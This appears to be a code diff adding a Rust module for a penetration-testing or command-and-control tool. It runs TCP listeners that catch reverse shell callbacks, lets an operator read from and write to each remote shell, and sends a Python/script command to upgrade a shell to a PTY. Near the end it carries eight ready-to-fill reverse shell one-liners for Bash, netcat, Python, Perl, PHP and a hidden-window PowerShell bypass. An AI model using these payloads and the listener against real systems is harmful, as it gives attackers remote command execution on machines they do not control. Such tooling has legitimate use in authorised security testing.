@@ -0,0 +1,297 @@
+//! Reverse shell listeners
+//!
+//! Each listener accepts any number of callbacks; every callback becomes a
+//! session that the terminal commands can read from and write to like a PTY.
+
+use serde::Serialize;
+use std::collections::{HashMap, VecDeque};
+use std::net::UdpSocket;
+use std::sync::{Arc, Mutex};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpListener;
+use tokio::sync::{mpsc, oneshot};
+
+use crate::services::audit;
+use crate::services::processes::{self, ManagedProcess, ProcessKind};
+use crate::utils::time::now_millis;
+
+/// Session ids carry this prefix so terminal commands can route them here
+pub const SESSION_PREFIX: &str = "callback_";
+/// Unread output kept per callback; the oldest bytes are dropped first
+const OUTPUT_CAPACITY: usize = 1024 * 1024;
+
+#[derive(Debug, Clone, Serialize)]
+pub struct ListenerInfo {
+    pub id: String,
+    pub host: String,
+    pub port: u16,
+    pub started_at: u64,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct CallbackInfo {
+    pub session_id: String,
+    pub listener_id: String,
+    pub remote_addr: String,
+    pub connected_at: u64,
+    pub alive: bool,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct ReverseShellPayload {
+    pub name: String,
+    pub platform: String,
+    pub command: String,
+}
+
+struct RunningListener {
+    info: ListenerInfo,
+    shutdown: oneshot::Sender<()>,
+}
+
+struct CallbackSession {
+    info: CallbackInfo,
+    writer: mpsc::UnboundedSender<Vec<u8>>,
+    output_buffer: Arc<Mutex<VecDeque<u8>>>,
+}
+
+lazy_static::lazy_static! {
+    static ref LISTENERS: Arc<Mutex<HashMap<String, RunningListener>>> = Arc::new(Mutex::new(HashMap::new()));
+    static ref CALLBACKS: Arc<Mutex<HashMap<String, CallbackSession>>> = Arc::new(Mutex::new(HashMap::new()));
+}
+
+/// Best guess at the address a target should call back to
+pub fn local_ip() -> String {
+    UdpSocket::bind("0.0.0.0:0")
+        .and_then(|socket| {
+            socket.connect("8.8.8.8:80")?;
+            socket.local_addr()
+        })
+        .map(|addr| addr.ip().to_string())
+        .unwrap_or_else(|_| "127.0.0.1".to_string())
+}
+
+/// Start listening on host:port; `on_event` is called for each new or closed callback
+pub async fn start_listener<F>(host: &str, port: u16, on_event: F) -> Result<ListenerInfo, String>
+where
+    F: Fn(&CallbackInfo) + Send + Sync + 'static,
+{
+    let listener = TcpListener::bind((host, port))
+        .await
+        .map_err(|e| format!("Failed to listen on {}:{}: {}", host, port, e))?;
+    let port = listener.local_addr().map(|a| a.port()).unwrap_or(port);
+
+    let info = ListenerInfo {
+        id: uuid::Uuid::new_v4().to_string(),
+        host: host.to_string(),
+        port,
+        started_at: now_millis(),
+    };
+
+    let (shutdown_tx, mut shutdown_rx) = oneshot::channel();
+    let listener_id = info.id.clone();
+    let on_event = Arc::new(on_event);
+
+    tokio::spawn(async move {
+        loop {
+            tokio::select! {
+                _ = &mut shutdown_rx => break,
+                accepted = listener.accept() => {
+                    if let Ok((stream, addr)) = accepted {
+                        register_callback(stream, addr.to_string(), &listener_id, on_event.clone());
+                    }
+                }
+            }
+        }
+    });
+
+    LISTENERS.lock().unwrap().insert(
+        info.id.clone(),
+        RunningListener {
+            info: info.clone(),
+            shutdown: shutdown_tx,
+        },
+    );
+    let id = info.id.clone();
+    processes::register(
+        ManagedProcess::new(&info.id, ProcessKind::Listener, &format!("Listener on {}:{}", info.host, info.port)),
+        Some(Box::new(move || {
+            let _ = stop_listener(&id);
+        })),
+    );
+
+    Ok(info)
+}
+
+fn register_callback<F>(stream: tokio::net::TcpStream, remote_addr: String, listener_id: &str, on_event: Arc<F>)
+where
+    F: Fn(&CallbackInfo) + Send + Sync + 'static,
+{
+    let session_id = format!("{}{}", SESSION_PREFIX, uuid::Uuid::new_v4());
+    let info = CallbackInfo {
+        session_id: session_id.clone(),
+        listener_id: listener_id.to_string(),
+        remote_addr,
+        connected_at: now_millis(),
+        alive: true,
+    };
+
+    let (mut reader, mut writer) = stream.into_split();
+    let (tx, mut rx) = mpsc::unbounded_channel::<Vec<u8>>();
+    let output_buffer = Arc::new(Mutex::new(VecDeque::new()));
+
+    // Registered before the tasks start, so a callback that closes at once
+    // is still found and marked dead by the reader
+    CALLBACKS.lock().unwrap().insert(
+        session_id.clone(),
+        CallbackSession {
+            info: info.clone(),
+            writer: tx,
+            output_buffer: output_buffer.clone(),
+        },
+    );
+    on_event(&info);
+
+    tokio::spawn(async move {
+        while let Some(data) = rx.recv().await {
+            if writer.write_all(&data).await.is_err() {
+                break;
+            }
+        }
+    });
+
+    tokio::spawn(async move {
+        let mut chunk = [0u8; 8192];
+        loop {
+            match reader.read(&mut chunk).await {
+                Ok(0) | Err(_) => break,
+                Ok(n) => {
+                    let mut buffer = output_buffer.lock().unwrap();
+                    let overflow = (buffer.len() + n).saturating_sub(OUTPUT_CAPACITY);
+                    buffer.drain(..overflow);
+                    buffer.extend(&chunk[..n]);
+                }
+            }
+        }
+
+        // Keep the session around so remaining output can still be read
+        let closed = CALLBACKS.lock().unwrap().get_mut(&session_id).map(|session| {
+            session.info.alive = false;
+            session.info.clone()
+        });
+        if let Some(info) = closed {
+            on_event(&info);
+        }
+    });
+}
+
+pub fn stop_listener(listener_id: &str) -> Result<(), String> {
+    let listener = LISTENERS
+        .lock()
+        .unwrap()
+        .remove(listener_id)
+        .ok_or_else(|| format!("Listener {} not found", listener_id))?;
+    processes::unregister(listener_id);
+    let _ = listener.shutdown.send(());
+    Ok(())
+}
+
+pub fn get_listener(listener_id: &str) -> Option<ListenerInfo> {
+    LISTENERS
+        .lock()
+        .unwrap()
+        .get(listener_id)
+        .map(|l| l.info.clone())
+}
+
+pub fn list_listeners() -> Vec<ListenerInfo> {
+    LISTENERS
+        .lock()
+        .unwrap()
+        .values()
+        .map(|l| l.info.clone())
+        .collect()
+}
+
+pub fn list_callbacks() -> Vec<CallbackInfo> {
+    let mut callbacks: Vec<CallbackInfo> = CALLBACKS
+        .lock()
+        .unwrap()
+        .values()
+        .map(|c| c.info.clone())
+        .collect();
+    callbacks.sort_by_key(|c| c.connected_at);
+    callbacks
+}
+
+pub fn is_session(session_id: &str) -> bool {
+    session_id.starts_with(SESSION_PREFIX)
+}
+
+pub fn write(session_id: &str, data: &[u8]) -> Result<(), String> {
+    let callbacks = CALLBACKS.lock().unwrap();
+    let session = callbacks
+        .get(session_id)
+        .ok_or_else(|| format!("Session {} not found", session_id))?;
+    if !session.info.alive {
+        return Err("Callback connection is closed".to_string());
+    }
+
+    if audit::is_enabled() && data.contains(&b'\n') {
+        let line = String::from_utf8_lossy(data).trim().to_string();
+        audit::record("listener", Some(session_id), &line, None);
+    }
+
+    session
+        .writer
+        .send(data.to_vec())
+        .map_err(|_| "Callback connection is closed".to_string())
+}
+
+/// Drain buffered output from the callback
+pub fn read(session_id: &str) -> Result<Vec<u8>, String> {
+    let callbacks = CALLBACKS.lock().unwrap();
+    let session = callbacks
+        .get(session_id)
+        .ok_or_else(|| format!("Session {} not found", session_id))?;
+    let mut buffer = session.output_buffer.lock().unwrap();
+    Ok(std::mem::take(&mut *buffer).into())
+}
+
+/// Drop the session; closing the channel ends the writer task and the socket
+pub fn close(session_id: &str) {
+    CALLBACKS.lock().unwrap().remove(session_id);
+}
+
+/// Try to turn a dumb shell into a PTY-backed one on the target
+pub fn upgrade_to_pty(session_id: &str) -> Result<(), String> {
+    let command = "python3 -c 'import pty; pty.spawn(\"/bin/bash\")' 2>/dev/null \
+|| python -c 'import pty; pty.spawn(\"/bin/bash\")' 2>/dev/null \
+|| script -qc /bin/bash /dev/null\n";
+    write(session_id, command.as_bytes())
+}
+
+/// Reverse shell one-liners pre-filled with the callback address
+pub fn reverse_shell_payloads(host: &str, port: u16) -> Vec<ReverseShellPayload> {
+    let templates: [(&str, &str, &str); 8] = [
+        ("Bash TCP", "linux", "bash -c 'bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1'"),
+        ("Bash mkfifo (nc)", "linux", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {HOST} {PORT} >/tmp/f"),
+        ("Netcat -e", "linux", "nc -e /bin/sh {HOST} {PORT}"),
+        ("Python 3", "linux", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{HOST}\",{PORT}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"),
+        ("Perl", "linux", "perl -e 'use Socket;$i=\"{HOST}\";$p={PORT};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"),
+        ("PHP", "linux", "php -r '$sock=fsockopen(\"{HOST}\",{PORT});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
+        ("PowerShell", "windows", "powershell -NoP -NonI -W Hidden -Exec Bypass -Command \"$c=New-Object System.Net.Sockets.TCPClient('{HOST}',{PORT});$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$o2=$o+'PS '+(pwd).Path+'> ';$sb=([text.encoding]::ASCII).GetBytes($o2);$s.Write($sb,0,$sb.Length);$s.Flush()};$c.Close()\""),
+        ("Netcat (Windows)", "windows", "nc.exe -e cmd.exe {HOST} {PORT}"),
+    ];
+
+    templates
+        .iter()
+        .map(|(name, platform, template)| ReverseShellPayload {
+            name: name.to_string(),
+            platform: platform.to_string(),
+            command: template
+                .replace("{HOST}", host)
+                .replace("{PORT}", &port.to_string()),
+        })
+        .collect()
+}